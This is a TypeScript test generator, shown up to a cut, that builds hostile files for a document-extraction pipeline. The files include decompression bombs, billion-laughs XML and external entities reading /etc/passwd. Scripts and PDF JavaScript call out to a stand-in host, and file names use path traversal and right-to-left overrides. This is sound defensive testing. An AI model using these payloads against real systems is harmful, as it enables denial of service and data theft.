/**
 * A torture corpus: broken, mislabelled and hostile files for the extraction pipeline. Seeded and
 * deterministic (same seed, same bytes), built from documents drawn here, so nothing is downloaded.
 *
 * Each file says what must become of it: read, a document error with one of the listed codes, or
 * either (random damage may or may not leave a readable file). Families: mislabelled files, huge
 * declared sizes, decompression bombs (plain, chained filters, attachments, object streams,
 * predictors), XML bombs inside PDFs (XMP metadata, XFA forms), SVG in every disguise, malformed
 * structure, deeply nested or cyclic object graphs, and random damage. Whatever it is, it must never crash
 * or hang a worker, and it must come out of a case as a document report.
 */
import { createCanvas } from '@napi-rs/canvas';
import { constants, crc32 as zlibCrc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import type { KycErrorCode } from '../domain/errors.js';
import { rngFor, type Rng } from './random.js';

export type TortureExpectation =
  | { kind: 'read' }
  | { kind: 'error'; codes: readonly KycErrorCode[] }
  /** Read, or any document error: random damage decides. */
  | { kind: 'either' };

export interface TortureFile {
  /** File name as uploaded (some are hostile on purpose). */
  name: string;
  bytes: Uint8Array;
  expect: TortureExpectation;
  /** What is wrong with it. */
  about: string;
}

export interface TortureOptions {
  seed?: number;
  /** Pages of the many-pages PDF; default 3000. */
  manyPages?: number;
  /** Bytes a decompression bomb inflates to; default 4 GiB (the preflight stops at its cap long before). */
  bombBytes?: number;
}

const READ = { kind: 'read' } as const;
const EITHER = { kind: 'either' } as const;
const error = (...codes: KycErrorCode[]): TortureExpectation => ({ kind: 'error', codes });
const UNSUPPORTED = error('UNSUPPORTED_FILE_TYPE');
const TOO_LARGE = error('DOCUMENT_TOO_LARGE');

export const DEFAULT_TORTURE_SEED = 1337;

/** The whole corpus, ~80 files, ~25 MB in all; takes a second or two to build. */
export async function generateTortureCorpus(options: TortureOptions = {}): Promise<TortureFile[]> {
  const seed = options.seed ?? DEFAULT_TORTURE_SEED;
  const bombBytes = options.bombBytes ?? 4 * 1024 ** 3;
  const base = await baseDocuments();
  const files: TortureFile[] = [
    ...mislabelled(base),
    ...(await hugeImages(base, options.manyPages)),
    await densePage(),
    ...pdfBombs(bombBytes, options.manyPages ?? 3000),
    ...nestedBombs(bombBytes),
    ...xmlBombs(),
    ...svgFiles(),
    ...malformedPdfs(),
    ...deepGraphs(),
    ...damaged(base, rngFor(seed, 'torture/damage')),
  ];
  const names = new Set<string>();
  for (const f of files) {
    if (names.has(f.name)) throw new Error(`duplicate torture file name ${f.name}`);
    names.add(f.name);
  }
  return files;
}

// --- base documents --------------------------------------------------------------------------------

interface BaseDocuments {
  pdf: Uint8Array;
  png: Uint8Array;
  jpeg: Uint8Array;
  tiff: Uint8Array;
  webp: Uint8Array;
}

const LINES = ['STATEMENT OF ACCOUNT', 'Account holder: Torture Test', 'Closing balance 123.45 EUR'];

async function baseDocuments(): Promise<BaseDocuments> {
  const canvas = createCanvas(800, 300);
  const ctx = canvas.getContext('2d');
  ctx.fillStyle = '#ffffff';
  ctx.fillRect(0, 0, 800, 300);
  ctx.fillStyle = '#111111';
  ctx.font = '28px "DejaVu Sans"';
  LINES.forEach((line, i) => ctx.fillText(line, 30, 70 + i * 60));
  const png = new Uint8Array(canvas.encodeSync('png'));
  return {
    pdf: textPdf(LINES),
    png,
    jpeg: new Uint8Array(canvas.encodeSync('jpeg', 85)),
    webp: new Uint8Array(canvas.encodeSync('webp', 85)),
    tiff: new Uint8Array(await sharp(png).greyscale().tiff({ compression: 'lzw' }).toBuffer()),
  };
}

// --- mislabelled and unsupported --------------------------------------------------------------------

function mislabelled(base: BaseDocuments): TortureFile[] {
  const text = (s: string): Uint8Array => new TextEncoder().encode(s);
  return [
    { name: 'empty.pdf', bytes: new Uint8Array(0), expect: UNSUPPORTED, about: 'zero bytes' },
    { name: 'one-byte.pdf', bytes: text('%'), expect: UNSUPPORTED, about: 'a single byte' },
    { name: 'notes.pdf', bytes: text('Name: Jane Example\nPassport: 123456789\n'), expect: UNSUPPORTED, about: 'plain text named .pdf' },
    {
      name: 'page.jpg',
      bytes: text('<!doctype html><html><body><img src="http://192.0.2.1/x.png"><script>fetch("http://192.0.2.1/")</script></body></html>'),
      expect: UNSUPPORTED,
      about: 'an HTML page named .jpg',
    },
    {
      name: 'drawing.png',
      bytes: text('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><image href="http://192.0.2.1/x.png"/><text>&x;</text></svg>'),
      expect: UNSUPPORTED,
      about: 'an SVG with an external entity and a remote image, named .png',
    },
    { name: 'archive.pdf', bytes: Uint8Array.of(0x50, 0x4b, 0x03, 0x04, 20, 0, 0, 0, 8, 0, ...new Array(40).fill(0)), expect: UNSUPPORTED, about: 'a ZIP (docx) named .pdf' },
    { name: 'animation.gif', bytes: text('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), expect: UNSUPPORTED, about: 'a GIF' },
    { name: 'scan.pdf', bytes: base.png, expect: READ, about: 'a PNG named .pdf: read as the PNG it is' },
    { name: 'statement.jpg', bytes: base.pdf, expect: READ, about: 'a PDF named .jpg: read as the PDF it is' },
    { name: 'header-only.pdf', bytes: text('%PDF-1.7\n'), expect: error('UNREADABLE_DOCUMENT'), about: 'a PDF header and nothing else' },
    { name: '../../../etc/cron.d/statement.pdf', bytes: textPdf(['A statement uploaded under a path name']), expect: READ, about: 'a path as the file name' },
    { name: 'invoice\u202Efdp.exe', bytes: text('MZ\x90\x00 not really a program'), expect: UNSUPPORTED, about: 'a right-to-left override in the name' },
    {
      name: 'null-bytes.pdf',
      bytes: concat(text('%PDF-1.7\n'), new Uint8Array(100_000)),
      expect: error('UNREADABLE_DOCUMENT'),
      about: 'a PDF header followed by 100 kB of zero bytes',
    },
  ];
}

// --- huge declared sizes -----------------------------------------------------------------------------

async function hugeImages(base: BaseDocuments, manyPages = 3000): Promise<TortureFile[]> {
  return [
    { name: 'huge-dimensions.png', bytes: pngHeaderOnly(60_000, 60_000), expect: TOO_LARGE, about: 'a PNG declaring 60000×60000 pixels' },
    { name: 'huge-dimensions.tif', bytes: tiff([{ width: 100_000, height: 100_000 }]), expect: TOO_LARGE, about: 'a TIFF declaring 100000×100000 pixels' },
    { name: 'huge-dimensions.jpg', bytes: patchJpegSize(base.jpeg, 65_000, 65_000), expect: TOO_LARGE, about: 'a JPEG whose frame header declares 65000×65000' },
    {
      name: 'huge-canvas.webp',
      bytes: webpCanvasOnly(1 << 20, 1 << 20),
      expect: error('DOCUMENT_TOO_LARGE', 'UNREADABLE_DOCUMENT'),
      about: 'a WebP declaring a 1048576×1048576 canvas and no image data',
    },
    {
      name: 'many-pages.tif',
      bytes: tiff(Array.from({ length: Math.min(manyPages, 400) }, () => ({ width: 8, height: 8 }))),
      expect: TOO_LARGE,
      about: 'a TIFF with hundreds of tiny pages',
    },
    { name: 'huge-page.pdf', bytes: blankPagePdf(14_400, 14_400), expect: TOO_LARGE, about: 'a 200 × 200 inch page without text: too large to render' },
  ];
}

/**
 * Within every limit but slow: a 3000×4000 page packed with small text takes tesseract about a
 * minute (measured ~60–120 s on one core), so with PAGE_TIMEOUT at 20 s or less it is cut off.
 */
async function densePage(): Promise<TortureFile> {
  const width = 3000;
  const height = 4000;
  const canvas = createCanvas(width, height);
  const ctx = canvas.getContext('2d');
  ctx.fillStyle = '#ffffff';
  ctx.fillRect(0, 0, width, height);
  ctx.fillStyle = '#000000';
  ctx.font = '24px "DejaVu Sans"';
  let word = 0;
  for (let y = 48; y < height - 24; y += 36) {
    for (let x = 20; x < width - 400; x += 420) ctx.fillText(`w${(word++ * 7919) % 99991} lorem ${word % 97}`, x, y);
  }
  return {
    name: 'dense-page.jpg',
    bytes: new Uint8Array(canvas.encodeSync('jpeg', 80)),
    expect: error('PAGE_TIMEOUT'),
    about: 'a legal page whose OCR takes about a minute: cut off at PAGE_TIMEOUT (≤ 20 s)',
  };
}

// --- PDF decompression bombs ------------------------------------------------------------------------

function pdfBombs(bombBytes: number, manyPages: number): TortureFile[] {
  const bomb = zeroBomb(bombBytes);
  const image = (dict: string, data: Uint8Array): Uint8Array =>
    buildPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >> >>',
      stream('', 'q 500 0 0 500 40 200 cm /Im1 Do Q'),
      stream(`/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8 ${dict}`, data),
    ]);
  const content = (filter: string, data: Uint8Array): Uint8Array => onePagePdf(stream(`/Filter ${filter}`, data));
  return [
    { name: 'flate-bomb.pdf', bytes: content('/FlateDecode', bomb), expect: TOO_LARGE, about: 'a content stream that inflates to gigabytes' },
    {
      name: 'flate-bomb-image.pdf',
      bytes: image('/Width 100 /Height 100 /Filter /FlateDecode', bomb),
      expect: TOO_LARGE,
      about: 'a 100×100 image whose stream inflates to gigabytes',
    },
    {
      name: 'double-flate-bomb.pdf',
      bytes: content('[/FlateDecode /FlateDecode]', deflateSync(zeroBomb(Math.min(bombBytes, 1024 ** 3)), { level: 9 })),
      expect: TOO_LARGE,
      about: 'Flate inside Flate: small, then a bomb',
    },
    {
      name: 'indirect-filter-bomb.pdf',
      bytes: buildPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
        concat(latin1(`<< /Filter 5 0 R /Length 6 0 R >>\nstream\n`), bomb, latin1('\nendstream')),
        '[/FlateDecode]',
        String(bomb.length),
      ]),
      expect: TOO_LARGE,
      about: 'a bomb whose filter and length are indirect objects',
    },
    { name: 'lzw-bomb.pdf', bytes: content('/LZWDecode', lzwZeroBomb(Math.min(bombBytes, 2 * 1024 ** 3))), expect: TOO_LARGE, about: 'an LZW stream that decodes to gigabytes' },
    { name: 'runlength-bomb.pdf', bytes: content('/RunLengthDecode', runLengthZeros(4 * 1024 * 1024)), expect: TOO_LARGE, about: 'RunLength: 4 MB that decode to 256 MB' },
    { name: 'huge-image.pdf', bytes: image('/Width 60000 /Height 60000 /Filter /FlateDecode', deflateSync(new Uint8Array(1000))), expect: TOO_LARGE, about: 'an embedded image declaring 60000×60000' },
    {
      name: 'huge-jpeg-in.pdf',
      bytes: image('/Width 100 /Height 100 /Filter /DCTDecode', patchJpegSize(minimalJpeg(), 60_000, 60_000)),
      expect: TOO_LARGE,
      about: 'a 100×100 image whose JPEG data declares 60000×60000',
    },
    { name: 'many-pages.pdf', bytes: manyPagesPdf(manyPages), expect: TOO_LARGE, about: `${manyPages} tiny pages` },
    {
      name: 'lying-page-count.pdf',
      bytes: onePagePdf(stream('', 'BT /F1 12 Tf 72 720 Td (Hello) Tj ET'), { count: 100_000_000 }),
      expect: EITHER, // pdf.js counts the kids when /Count is absurd
      about: 'one page, /Count says a hundred million',
    },
  ];
}

// --- bombs behind other bombs: attachments, object streams, chained filters, predictors ----------------

function nestedBombs(bombBytes: number): TortureFile[] {
  const gib = Math.min(bombBytes, 1024 ** 3);
  const attachment = (fileStream: Uint8Array): Uint8Array =>
    withText('A statement with an attachment', (next) => ({
      catalog: `/Names << /EmbeddedFiles << /Names [(statement.zip) ${next} 0 R] >> >>`,
      objects: [`<< /Type /Filespec /F (statement.zip) /UF (statement.zip) /EF << /F ${next + 1} 0 R >> >>`, fileStream],
    }));
  const content = (filter: string, data: Uint8Array): Uint8Array => onePagePdf(stream(`/Filter ${filter}`, data));
  const hex = (data: Uint8Array): Uint8Array => latin1(`${Buffer.from(data).toString('hex')}>`);
  return [
    {
      name: 'zip-bomb-attachment.pdf',
      bytes: attachment(stream('/Type /EmbeddedFile /Subtype /application#2Fzip', zipZeroBomb(256 * 1024 * 1024))),
      expect: READ,
      about: 'a text PDF carrying a ZIP attachment whose member inflates to 256 MiB: attachments are never opened',
    },
    {
      name: 'flate-bomb-attachment.pdf',
      bytes: attachment(stream('/Type /EmbeddedFile /Filter /FlateDecode', zeroBomb(bombBytes))),
      expect: TOO_LARGE,
      about: 'an attachment stream that inflates to gigabytes: refused like any stream pdf.js could be made to decode',
    },
    {
      name: 'objstm-bomb.pdf',
      bytes: buildPdf(
        [
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          pageWithFont(),
          stream('', 'BT /F1 18 Tf 72 720 Td (Object stream bomb) Tj ET'),
          '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
          stream('/Type /ObjStm /N 1 /First 8 /Filter /FlateDecode', zeroBomb(bombBytes)),
        ],
        { xrefShift: 7 }, // a broken table: pdf.js rebuilds it and opens every object stream it finds
      ),
      expect: TOO_LARGE,
      about: 'an object stream that inflates to gigabytes, in a file whose cross-reference table must be rebuilt',
    },
    {
      name: 'triple-flate-hex-bomb.pdf',
      bytes: content('[/ASCIIHexDecode /FlateDecode /FlateDecode /FlateDecode]', hex(deflateSync(deflateSync(zeroBomb(gib), { level: 9 }), { level: 9 }))),
      expect: TOO_LARGE,
      about: 'hex text around Flate around Flate around a Flate bomb: a few kB in the file',
    },
    {
      name: 'lzw-in-flate-bomb.pdf',
      bytes: content('[/FlateDecode /LZWDecode]', deflateSync(lzwZeroBomb(gib), { level: 9 })),
      expect: TOO_LARGE,
      about: 'an LZW bomb inside a Flate stream',
    },
    {
      name: 'predictor-bomb.pdf',
      bytes: onePagePdf(stream('/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 60000000 /Colors 4 /BitsPerComponent 8 >>', deflateSync(new Uint8Array(1024)))),
      expect: TOO_LARGE,
      about: '1 kB of data whose PNG predictor declares rows of 240 MB (pdf.js allocates a whole row)',
    },
  ];
}

// --- XML inside PDFs: XMP metadata, XFA forms ------------------------------------------------------------

const BILLION_LAUGHS_DTD =
  '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">' +
  '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">' +
  '<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;"><!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">' +
  '<!ENTITY j "&i;&i;&i;&i;&i;&i;&i;&i;&i;&i;">]>';

function xmp(dtd: string, title: string): string {
  return (
    `<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>\n<?xml version="1.0"?>\n${dtd}\n` +
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
    `<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">${title}</rdf:li></rdf:Alt></dc:title></rdf:Description>` +
    '</rdf:RDF></x:xmpmeta>\n<?xpacket end="w"?>'
  );
}

function xmlBombs(): TortureFile[] {
  const metadata = (xml: string): Uint8Array =>
    withText('A statement with hostile metadata', (next) => ({
      catalog: `/Metadata ${next} 0 R`,
      objects: [stream('/Type /Metadata /Subtype /XML', xml)],
    }));
  const xfa = (xml: string): Uint8Array =>
    withText('A statement with a hostile XFA form', (next) => ({
      catalog: `/AcroForm << /Fields [] /XFA ${next} 0 R >>`,
      objects: [stream('', xml)],
    }));
  return [
    { name: 'xmp-billion-laughs.pdf', bytes: metadata(xmp(BILLION_LAUGHS_DTD, '&j;')), expect: READ, about: 'XMP metadata whose entities expand to 10⁹ "ha"s' },
    {
      name: 'xmp-external-entity.pdf',
      bytes: metadata(xmp('<!DOCTYPE x [<!ENTITY p SYSTEM "file:///etc/passwd"><!ENTITY r SYSTEM "http://192.0.2.1/xmp">]>', '&p;&r;')),
      expect: READ,
      about: 'XMP metadata naming a local file and a remote URL as entities: never resolved',
    },
    {
      name: 'xmp-flate-bomb.pdf',
      bytes: withText('A statement whose metadata is a bomb', (next) => ({
        catalog: `/Metadata ${next} 0 R`,
        objects: [stream('/Type /Metadata /Subtype /XML /Filter /FlateDecode', zeroBomb(1024 ** 3))],
      })),
      expect: TOO_LARGE,
      about: 'a metadata stream that inflates to a gigabyte',
    },
    {
      name: 'xfa-billion-laughs.pdf',
      bytes: xfa(`<?xml version="1.0"?>${BILLION_LAUGHS_DTD}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&j;</template></xdp:xdp>`),
      expect: READ,
      about: 'an XFA form whose entities expand to 10⁹ "ha"s: XFA is never parsed',
    },
  ];
}

// --- SVG ---------------------------------------------------------------------------------------------------

/** No input path reads SVG (a document is PDF, PNG, JPEG, TIFF or WebP by its bytes): each is refused before any parser sees it. */
function svgFiles(): TortureFile[] {
  const svg = (body: string, dtd = ''): string => `<?xml version="1.0" encoding="UTF-8"?>\n${dtd}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="800" height="300">${body}</svg>\n`;
  return [
    { name: 'billion-laughs.svg', bytes: latin1(svg('<text x="10" y="40">&j;</text>', BILLION_LAUGHS_DTD)), expect: UNSUPPORTED, about: 'an SVG whose entities expand to 10⁹ "ha"s' },
    {
      name: 'statement.svg',
      bytes: latin1(svg('<image xlink:href="http://192.0.2.1/x.png" width="10" height="10"/><use href="file:///etc/passwd#x"/><script>fetch("http://192.0.2.1/")</script><text x="10" y="40">&x;</text>', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
      expect: UNSUPPORTED,
      about: 'an SVG with an external entity, a remote image, a file reference and a script',
    },
    { name: 'drawing.svgz', bytes: gzipOf(latin1(svg('<text x="10" y="40">Compressed drawing</text>'))), expect: UNSUPPORTED, about: 'a gzip-compressed SVG' },
    {
      name: 'scan.tif',
      bytes: latin1(svg('<rect width="100%" height="100%" fill="white"/><text x="10" y="40">Not a TIFF</text>')),
      expect: UNSUPPORTED,
      about: 'an SVG named .tif',
    },
    {
      name: 'polyglot.svg',
      bytes: latin1(svg('<!-- %PDF-1.7 a PDF header inside a comment --><text x="10" y="40">Polyglot</text>')),
      expect: error('UNREADABLE_DOCUMENT', 'UNSUPPORTED_FILE_TYPE'),
      about: 'an SVG with a PDF header in a comment within its first KiB: taken for a PDF, and no PDF is in it',
    },
  ];
}

// --- deep and cyclic object graphs ---------------------------------------------------------------------

function deepGraphs(): TortureFile[] {
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
  const text = (line: string): Uint8Array => stream('', `BT /F1 18 Tf 72 720 Td (${line}) Tj ET`);
  const chain = 20_000;
  return [
    {
      name: 'deep-reference-chain.pdf',
      // Resources → 6 0 R → 7 0 R → … → the font dictionary: 20000 references deep.
      bytes: buildPdf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 6 0 R >>',
        text('At the end of a long chain'),
        font,
        ...Array.from({ length: chain }, (_, i) => (i + 1 < chain ? `${i + 7} 0 R` : '<< /Font << /F1 5 0 R >> >>')),
      ]),
      expect: EITHER,
      about: 'resources reached through 20000 indirect references in a row',
    },
    {
      name: 'deep-page-tree.pdf',
      bytes: buildPdf([
        catalog,
        ...Array.from({ length: chain }, (_, i) => `<< /Type /Pages /Kids [${i + 3} 0 R] /Count 1${i > 0 ? ` /Parent ${i + 1} 0 R` : ''} >>`),
        `<< /Type /Page /Parent ${chain + 1} 0 R /MediaBox [0 0 595 842] /Contents ${chain + 3} 0 R /Resources << /Font << /F1 ${chain + 4} 0 R >> >> >>`,
        text('A page 20000 levels down'),
        font,
      ]),
      expect: EITHER,
      about: 'a page tree 20000 levels deep',
    },
    {
      name: 'deep-forms.pdf',
      // The page draws form 1, which draws form 2, … form 3000 writes the text.
      bytes: buildPdf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 6 0 R >> >> >>',
        stream('', '/X Do'),
        font,
        ...Array.from({ length: 3000 }, (_, i) =>
          i + 1 < 3000
            ? stream(`/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X ${i + 7} 0 R >> >>`, '/X Do')
            : stream('/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>', 'BT /F1 18 Tf 72 720 Td (Drawn 3000 forms deep) Tj ET'),
        ),
      ]),
      expect: EITHER,
      about: 'form XObjects nested 3000 deep',
    },
    {
      name: 'cyclic-resources.pdf',
      bytes: buildPdf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 6 0 R >>',
        text('Resources that contain themselves'),
        font,
        '<< /Font << /F1 5 0 R /F2 6 0 R >> /XObject 6 0 R /ExtGState << /G 6 0 R >> /Self 6 0 R >>',
      ]),
      expect: EITHER,
      about: 'a resource dictionary that refers to itself from every entry',
    },
    {
      name: 'cyclic-outlines.pdf',
      bytes: buildPdf([
        '<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        pageWithFont(),
        text('A statement whose bookmarks loop'),
        font,
        '<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>',
        '<< /Title (one) /Parent 6 0 R /Next 8 0 R /First 7 0 R /Dest [3 0 R /Fit] >>',
        '<< /Title (two) /Parent 6 0 R /Prev 7 0 R /Next 7 0 R /Dest [3 0 R /Fit] >>',
      ]),
      expect: READ,
      about: 'bookmarks whose siblings and children loop: outlines are never read',
    },
    {
      name: 'xref-prev-loop.pdf',
      bytes: xrefPrevLoop([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', pageWithFont(), text('A file whose cross-reference sections loop'), font]),
      expect: EITHER,
      about: "the trailer's /Prev points back at its own cross-reference section",
    },
  ];
}

/** A text PDF (one Helvetica line) with extra catalog entries and objects numbered from 6 on. */
function withText(line: string, extra: (next: number) => { catalog: string; objects: PdfObject[] }): Uint8Array {
  const { catalog, objects } = extra(6);
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    pageWithFont(),
    stream('', `BT /F1 18 Tf 72 720 Td (${line}) Tj ET`),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
  ]);
}

/** A classic PDF whose trailer's /Prev is the offset of its own xref section. */
function xrefPrevLoop(objects: readonly PdfObject[]): Uint8Array {
  const body = buildPdf(objects, { noXref: true });
  const text = Buffer.from(body).toString('latin1');
  const offsets = objects.map((_, i) => text.indexOf(`\n${i + 1} 0 obj\n`) + 1);
  const entries = offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  const xrefAt = body.length;
  return concat(
    body,
    latin1(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Prev ${xrefAt} >>\nstartxref\n${xrefAt}\n%%EOF\n`),
  );
}

// --- malformed PDF structure -------------------------------------------------------------------------

function malformedPdfs(): TortureFile[] {
  const hello = stream('', 'BT /F1 24 Tf 72 720 Td (Hello from a broken file) Tj ET');
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
  const depth = 100_000;
  return [
    {
      name: 'deep-arrays.pdf',
      bytes: buildPdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Junk ${'['.repeat(depth)}${']'.repeat(depth)} >>`, hello]),
      expect: EITHER,
      about: 'arrays nested 100000 deep',
    },
    {
      name: 'deep-dicts.pdf',
      bytes: buildPdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources ${'<< /A '.repeat(depth)}1${' >>'.repeat(depth)} >>`, hello]),
      expect: EITHER,
      about: 'dictionaries nested 100000 deep',
    },
    {
      name: 'deep-content.pdf',
      bytes: onePagePdf(stream('', `BT /F1 12 Tf 72 720 Td (x) Tj ET ${'['.repeat(depth)}`)),
      expect: EITHER,
      about: 'a content stream opening 100000 arrays',
    },
    {
      name: 'circular-pages.pdf',
      bytes: buildPdf([catalog, '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 5 /Parent 2 0 R >>', '<< /Type /Page /Parent 3 0 R /MediaBox 5 0 R /Contents 4 0 R /Resources 3 0 R >>', hello, '6 0 R', '5 0 R']),
      expect: EITHER,
      about: 'a page tree and a reference chain that loop',
    },
    {
      name: 'self-drawing-form.pdf',
      bytes: buildPdf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
        stream('', '/X Do'),
        stream('/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /XObject << /X 5 0 R >> >>', '/X Do /X Do'),
      ]),
      expect: EITHER,
      about: 'a form XObject that draws itself',
    },
    {
      name: 'missing-objects.pdf',
      bytes: buildPdf([catalog, '<< /Type /Pages /Kids [3 0 R 9 0 R 10 0 R] /Count 3 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 7 0 R /Resources 8 0 R >>']),
      expect: EITHER,
      about: 'pages, contents and resources that do not exist',
    },
    { name: 'broken-xref.pdf', bytes: buildPdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', pageWithFont(), hello, font], { xrefShift: 7 }), expect: EITHER, about: 'every cross-reference offset wrong' },
    { name: 'no-xref.pdf', bytes: buildPdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', pageWithFont(), hello, font], { noXref: true }), expect: EITHER, about: 'no cross-reference table or trailer' },
    {
      name: 'startxref-past-end.pdf',
      bytes: concat(buildPdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', pageWithFont(), hello, font], { noXref: true }), latin1('startxref\n99999999\n%%EOF\n')),
      expect: EITHER,
      about: 'startxref points past the end of the file',
    },
    { name: 'encrypted.pdf', bytes: encryptedPdf(), expect: error('ENCRYPTED_DOCUMENT'), about: 'encrypted with a user password' },
    {
      name: 'active-content.pdf',
      bytes: buildPdf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >> /AcroForm << /Fields [] >> /URI << /Base (http://192.0.2.1/) >> >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R 8 0 R] /AA << /O 6 0 R >> >>',
        stream('', 'BT /F1 18 Tf 72 720 Td (Statement with active content attached) Tj ET'),
        font,
        '<< /S /JavaScript /JS (app.launchURL("http://192.0.2.1/", true); this.submitForm("http://192.0.2.1/");) >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (http://192.0.2.1/) >> >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (calc.exe) >> >>',
      ]),
      expect: READ,
      about: 'JavaScript, links, a launch action: never run, never followed',
    },
    {
      name: 'remote-font.pdf',
      bytes: buildPdf([
        catalog,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
        stream('', 'BT /F1 18 Tf 72 720 Td (Text in a font that points elsewhere) Tj ET'),
        '<< /Type /Font /Subtype /TrueType /BaseFont /Nowhere /FirstChar 32 /LastChar 126 /FontDescriptor 6 0 R >>',
        '<< /Type /FontDescriptor /FontName /Nowhere /Flags 32 /FontFile2 7 0 R /FontBBox [0 0 1000 1000] >>',
        stream('/FS /URL /F (http://192.0.2.1/font.ttf)', 'not a font at all'),
      ]),
      expect: EITHER,
      about: 'a font program that is garbage and names a remote file',
    },
    { name: 'unknown-filter.pdf', bytes: onePagePdf(stream('/Filter /NoSuchDecode', 'x\u0000y\u0000z')), expect: EITHER, about: 'a stream with an unknown filter' },
    {
      name: 'operator-flood.pdf',
      bytes: onePagePdf(stream('', '0.5 g\n' + '10 10 m 20 20 l S 1 0 0 1 0 0 cm\n'.repeat(20_000)), { noFont: true }),
      expect: EITHER,
      about: '20000 drawing operators on a page without text (rendered for OCR)',
    },
  ];
}

// --- random damage -------------------------------------------------------------------------------------

function damaged(base: BaseDocuments, rng: Rng): TortureFile[] {
  const out: TortureFile[] = [];
  const kinds: Array<[string, Uint8Array]> = [
    ['pdf', base.pdf],
    ['png', base.png],
    ['jpg', base.jpeg],
    ['tif', base.tiff],
    ['webp', base.webp],
  ];
  for (const [ext, bytes] of kinds) {
